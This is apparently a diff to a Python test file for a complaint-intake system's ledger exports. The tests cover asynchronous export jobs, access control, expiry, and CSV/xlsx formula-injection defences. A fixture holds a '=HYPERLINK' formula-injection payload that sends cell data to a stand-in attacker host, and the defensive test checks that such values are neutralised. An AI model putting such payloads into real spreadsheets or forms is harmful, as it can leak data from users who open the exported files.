@@ -13,11 +13,14 @@ from openpyxl.utils import get_column_letter
 from sqlalchemy import select
 
 from handlers.cli import main
+from handlers.console.ledger import ledger_exporter
+from handlers.runtime import services
 from intake.case import cases
 from intake.case.complaints import NewComplaint, create_complaint
-from intake.foundation.models import AuditEntry, CaseFacts, ClaimLine, Complaint, Site
+from intake.foundation.models import AuditEntry, CaseFacts, ClaimLine, Complaint, ExportJob, Site, utcnow
+from intake.runtime.worker import run_once
 from intake.supervision.ledger import HEADER, LINES_HEADER
-from tests.helpers import ctx, login, make_accounts, routed, worker_pass
+from tests.helpers import CAL, csrf_token, ctx, exported, flashed, login, make_accounts, routed, worker_pass
 
 HOSTILE = {
     "name": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
@@ -59,10 +62,6 @@ def ledger_cases(app, session, settings, lanshan_site, far_site):
     return accepted, hostile, far
 
 
-def download(client, path, **args):
-    response = client.get(path, query_string=args)
-    assert response.status_code == 200, response.status_code
-    return response
 
 
 def xlsx_sheets(response):
@@ -79,7 +78,7 @@ def test_the_ledger_lists_every_case_in_scope_row_by_row(app, client, session, l
     accepted, hostile, far = ledger_cases
     accounts = make_accounts(session)
     login(client, accounts["county"])
-    sheets = xlsx_sheets(download(client, "/console/ledger.xlsx"))
+    sheets = xlsx_sheets(exported(app, client, "/console/ledger.xlsx"))
     header, *rows = sheets["台账"]
     assert tuple(c.value for c in header) == HEADER
     session.expire_all()
@@ -109,16 +108,16 @@ def test_the_ledger_lists_every_case_in_scope_row_by_row(app, client, session, l
     zone = ZoneInfo(app.extensions["qingling"].settings.calendar.timezone)
     assert received.value == expected[0].created_at.astimezone(zone).replace(tzinfo=None, second=0, microsecond=0)
     assert isinstance(rows[1][col["不予受理日期"]].value, datetime) and rows[1][col["不予受理日期"]].is_date
-    book = openpyxl.load_workbook(io.BytesIO(download(client, "/console/ledger.xlsx").data))
+    book = openpyxl.load_workbook(io.BytesIO(exported(app, client, "/console/ledger.xlsx").data))
     sheet = book["台账"]
     assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:{get_column_letter(len(HEADER))}3"
     assert sheet.column_dimensions["D"].width >= 16 and sheet.column_dimensions["B"].width >= 8
 
-    csv_header, *csv_body = csv_rows(download(client, "/console/ledger.csv"))
+    csv_header, *csv_body = csv_rows(exported(app, client, "/console/ledger.csv"))
     assert tuple(csv_header) == HEADER
     assert csv_body[0][col["收到时间"]] == received.value.strftime("%Y-%m-%d %H:%M")
     assert [r[col["投诉编号"]] for r in csv_body] == [c.ticket_no for c in expected]
-    assert all(c.complainant.phone not in download(client, "/console/ledger.csv").get_data(as_text=True)
+    assert all(c.complainant.phone not in exported(app, client, "/console/ledger.csv").get_data(as_text=True)
                for c in expected)
 
 
@@ -127,12 +126,12 @@ def test_no_text_from_a_worker_becomes_a_formula(app, client, session, ledger_ca
     session.expire_all()
     assert session.get(CaseFacts, hostile.id).employer == HOSTILE["employer"].replace(" ", "")
     login(client, make_accounts(session)["admin"])
-    sheets = xlsx_sheets(download(client, "/console/ledger.xlsx"))
+    sheets = xlsx_sheets(exported(app, client, "/console/ledger.xlsx"))
     cells = [c for rows in sheets.values() for r in rows for c in r if isinstance(c.value, str)]
     assert all(c.data_type == "s" for c in cells)
     texts = [c.value for c in cells]
     csv_texts = [v for path, args in (("/console/ledger.csv", {}), ("/console/ledger.csv", {"sheet": "lines"}))
-                 for r in csv_rows(download(client, path, **args)) for v in r]
+                 for r in csv_rows(exported(app, client, path, **args)) for v in r]
     for found in (texts, csv_texts):
         assert not [t for t in found if t[:1] in ("=", "+", "-", "@", "\t", "\r")]
         assert not [t for t in found if any(ord(ch) < 32 for ch in t)]
@@ -145,10 +144,11 @@ def test_no_text_from_a_worker_becomes_a_formula(app, client, session, ledger_ca
 def test_who_may_export_and_what_they_get(app, client, session, ledger_cases, who, expected):
     accepted, hostile, far = ledger_cases
     login(client, make_accounts(session)[who])
-    response = client.get("/console/ledger.csv")
-    assert response.status_code == expected
-    if expected == 200:
-        tickets = {r[1] for r in csv_rows(response)[1:]}
+    if expected == 403:
+        assert client.get("/console/ledger.csv").status_code == 403
+        assert not session.scalars(select(ExportJob)).all()
+    else:
+        tickets = {r[1] for r in csv_rows(exported(app, client, "/console/ledger.csv"))[1:]}
         assert tickets == {"head": {accepted.ticket_no}, "far_county": {far.ticket_no},
                            "admin": {accepted.ticket_no, hostile.ticket_no, far.ticket_no}}[who]
         entry = session.scalars(select(AuditEntry).where(AuditEntry.action == "export")).all()[-1]
@@ -167,7 +167,7 @@ def test_a_department_sees_only_its_own_cases_and_the_dashboard_agrees_with_the_
     page = client.get("/console/dashboard").get_data(as_text=True)
     assert 'href="/console/dashboard"' in page and 'id="chart-daily"' in page and "<script>" not in page
     assert '<b>2</b>收到投诉' in page
-    tickets = {r[1] for r in csv_rows(download(client, "/console/ledger.csv"))[1:]}
+    tickets = {r[1] for r in csv_rows(exported(app, client, "/console/ledger.csv"))[1:]}
     assert len(tickets) == 2
 
 
@@ -175,8 +175,8 @@ def test_the_date_filter_is_the_same_for_dashboard_and_ledger(app, client, sessi
     login(client, make_accounts(session)["admin"])
     tomorrow = (ledger_cases[0].created_at + timedelta(days=2)).date().isoformat()
     assert '<b>0</b>收到投诉' in client.get("/console/dashboard", query_string={"start": tomorrow}).get_data(as_text=True)
-    assert len(csv_rows(download(client, "/console/ledger.csv", start=tomorrow))) == 1  # the header only
-    assert len(csv_rows(download(client, "/console/ledger.csv", county="371311"))) == 2
+    assert len(csv_rows(exported(app, client, "/console/ledger.csv", start=tomorrow))) == 1  # the header only
+    assert len(csv_rows(exported(app, client, "/console/ledger.csv", county="371311"))) == 2
 
 
 def test_the_weekly_report_from_the_command_and_the_console(app, client, session, ledger_cases, tmp_path):
@@ -196,3 +196,58 @@ def test_the_weekly_report_from_the_command_and_the_console(app, client, session
     page = client.get("/console/report", query_string={"period": "monthly"})
     assert page.status_code == 200 and "考核通报" in page.get_data(as_text=True)
     assert client.get("/console/report.xlsx").status_code == 200
+
+
+def export_pass(app, now=None):
+    """A worker pass that writes the exports asked for (and deletes expired ones), as `qingling worker` does."""
+    return run_once(services(app).sessions, {}, CAL, services(app).settings, now=now or utcnow(),
+                    exporter=ledger_exporter(app))
+
+
+def test_a_ledger_is_written_off_the_request_path_and_only_its_requester_downloads_it(app, client, session,
+                                                                                    ledger_cases):
+    accounts = make_accounts(session)
+    login(client, accounts["county"])
+    dashboard = client.get("/console/dashboard").get_data(as_text=True)
+    asked = client.post("/console/exports", data={"csrf_token": csrf_token(dashboard), "kind": "ledger_xlsx",
+                                                  "county": "371302"})
+    assert asked.status_code == 303
+    page = asked.headers["Location"]
+    waiting = client.get(page).get_data(as_text=True)
+    assert "生成中" in waiting and 'http-equiv="refresh"' in waiting and "/file" not in waiting
+    job_id = int(page.rsplit("/", 1)[1])
+    assert client.get(f"{page}/file").status_code == 404  # not written yet
+    assert client.get("/console/ledger.xlsx", query_string={"county": "371302"}).headers["Location"] == page
+
+    other = app.test_client()
+    login(other, accounts["admin"])
+    assert other.get(page).status_code == 404 and other.get(f"{page}/file").status_code == 404
+
+    assert export_pass(app).exported == 1
+    ready = client.get(page).get_data(as_text=True)
+    assert "可以下载" in ready and "共 3 行" in ready  # two cases, one worker's claim line and 'http-equiv="refresh"' not in ready
+    response = client.get(f"{page}/file")
+    assert response.status_code == 200 and "attachment" in response.headers["Content-Disposition"]
+    tickets = {r[1].value for r in xlsx_sheets(response)["台账"][1:]}
+    assert tickets == {ledger_cases[0].ticket_no, ledger_cases[1].ticket_no}  # 兰山区 only: the filter held
+    assert other.get(f"{page}/file").status_code == 404
+    session.expire_all()
+    actions = [(e.action, e.detail.get("job_id")) for e in session.scalars(select(AuditEntry).order_by(AuditEntry.id))
+               if e.action.startswith("export")]
+    assert actions == [("export_requested", job_id)] * 2 + [("export", job_id), ("export_download", job_id)]
+    assert "可以下载" in client.get("/console/dashboard").get_data(as_text=True)
+
+    keep = timedelta(hours=services(app).settings.worker.export_keep_hours)
+    export_pass(app, utcnow() + keep + timedelta(minutes=1))
+    assert "已过期" in client.get(page).get_data(as_text=True) and client.get(f"{page}/file").status_code == 404
+    session.expire_all()
+    assert not ledger_exporter(app).path(session.get(ExportJob, job_id)).exists()
+
+
+def test_an_unknown_export_is_refused_and_nothing_is_asked_for(app, client, session, ledger_cases):
+    login(client, make_accounts(session)["county"])
+    dashboard = client.get("/console/dashboard").get_data(as_text=True)
+    refused = client.post("/console/exports", data={"csrf_token": csrf_token(dashboard), "kind": "everything"})
+    assert refused.status_code == 303 and "请选择要导出的台账" in flashed(client, refused)
+    assert client.get("/console/exports/999").status_code == 404
+    assert not session.scalars(select(ExportJob)).all()
